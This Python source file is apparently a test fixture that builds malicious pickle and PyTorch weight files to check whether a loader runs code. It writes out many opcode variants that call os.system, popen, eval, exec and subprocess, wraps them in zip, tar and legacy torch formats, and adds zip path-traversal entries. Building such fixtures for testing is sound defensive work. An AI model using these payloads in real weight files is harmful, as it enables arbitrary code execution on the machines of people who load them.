"""Weight files that run a command when a reader trusts them; each would make the file ``canary``.

Written out by opcodes where no honest pickler would write them.
"""

import io
import pickle
import struct
import tarfile
import zipfile

EXTENSION = 240  # a code that nobody has
EXT = {
    "ext1": struct.pack("<BB", 0x82, 240),
    "ext2": struct.pack("<BH", 0x83, 240),
    "ext4": struct.pack("<Bi", 0x84, 240),
}


def glob(module: str, name: str, *args: str) -> bytes:
    """Protocol 0, by hand: ``module.name(*args)``; the module need not be importable here."""
    words = "".join(f"S{arg!r}\n" for arg in args)
    return f"c{module}\n{name}\n({words}tR.".encode()


def stack_global(module: str, name: str, arg: str) -> bytes:
    """Protocol 4, whose names may have dots."""

    def text(word: str) -> bytes:
        return b"\x8c" + bytes([len(word.encode())]) + word.encode()

    return b"\x80\x04" + text(module) + text(name) + b"\x93" + text(arg) + b"\x85R."


def raw(shell: str) -> dict[str, bytes]:
    """Pickles that run ``shell``."""
    python = f"__import__('os').system({shell!r})"
    inner = glob("posix", "system", shell)
    state = f"(dS'__setstate__'\ncposix\nsystem\nsbS{shell!r}\nb.".encode()
    return {
        "reduce": glob("posix", "system", shell),
        "os": glob("os", "system", shell),
        "popen": glob("os", "popen", shell),
        "eval": glob("builtins", "eval", python),
        "exec": glob("builtins", "exec", python),
        "python2 eval": glob("__builtin__", "eval", python),
        "subprocess": glob("subprocess", "getoutput", shell),
        "timeit": glob("timeit", "timeit", "pass", python),
        "code": (
            "ccode\nInteractiveInterpreter\n(tRp0\n0cbuiltins\ngetattr\n(g0\nS'runsource'\ntR"
            f"(S{python!r}\ntR."
        ).encode(),
        "nested pickle": b"cpickle\nloads\n(cbuiltins\nbytes\n(("
        + b"".join(b"I%d\n" % byte for byte in inner)
        + b"ltRtR.",
        "partial": f"cfunctools\npartial\n(cposix\nsystem\nS{shell!r}\ntR(tR.".encode(),
        "map": f"cbuiltins\nlist\n(cbuiltins\nmap\n(cposix\nsystem\n(S{shell!r}\nltRtR.".encode(),
        "methodcaller": (
            f"coperator\nmethodcaller\n(S'system'\nS{shell!r}\ntR(cimportlib\nimport_module\n(S'os'\ntRtR."
        ).encode(),
        "runpy": glob("runpy", "_run_code", python)[:-3] + b"(dtR.",
        "inst": f"(S{shell!r}\niposix\nsystem\n.".encode(),
        "obj": f"(cposix\nsystem\nS{shell!r}\no.".encode(),
        "build": b"ctypes\nSimpleNamespace\n)\x81" + state,
        "newobj": b"\x80\x02cfunctools\npartial\ncposix\nsystem\nS" + repr(shell).encode() + b"\n\x86\x81)R.",
        "stack_global": stack_global("posix", "system", shell),
        "dotted": stack_global("torch", "os.system", shell),
        "persistent class": b"\x80\x02" + glob("posix", "system", shell)[:-1] + b"Q.",
        "in a dict": b"(dS'w'\n" + glob("posix", "system", shell)[:-1] + b"s.",
        "memo": f"cposix\nsystem\np7\n0g7\n(S{shell!r}\ntR.".encode(),
        **{name: code + f"(S{shell!r}\ntR.".encode() for name, code in EXT.items()},
    }


def zipped(data: bytes, *others: str) -> bytes:
    """As ``torch.save`` writes: a zip file with ``data.pkl``; ``others`` are further records of the same."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_STORED) as file:
        for name in ("archive/data.pkl", *others):
            file.writestr(name, data)
        file.writestr("archive/version", "3\n")
    return made.getvalue()


def tarred(data: bytes) -> bytes:
    """As torch wrote before 0.1.10."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as file:
        for name in ("storages", "tensors", "pickle"):
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            file.addfile(entry, io.BytesIO(data))
    return made.getvalue()


def legacy(*data: bytes) -> bytes:
    """As torch wrote before 1.6: pickles of a magic number, a version, the system, then the content."""
    head = (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})
    return b"".join([*(pickle.dumps(part, 2) for part in head), *data])


def files(shell: str) -> dict[str, bytes]:
    """Weight files that run ``shell`` in a reader that unpickles what it finds."""
    pickles = raw(shell)
    bomb = pickles["reduce"]
    return {
        **pickles,
        "zip": zipped(bomb),
        "zip in a zip": zipped(zipped(bomb)),
        "zip that leads outside": zipped(bomb, "archive/../../canary", "/tmp/canary"),
        "zip, dotted": zipped(pickles["dotted"]),
        "script": zipped(bomb, "archive/constants.pkl", "archive/code/__torch__.py"),
        "tar": tarred(bomb),
        "legacy": legacy(bomb),
        "legacy magic": bomb + legacy(bomb),
    }
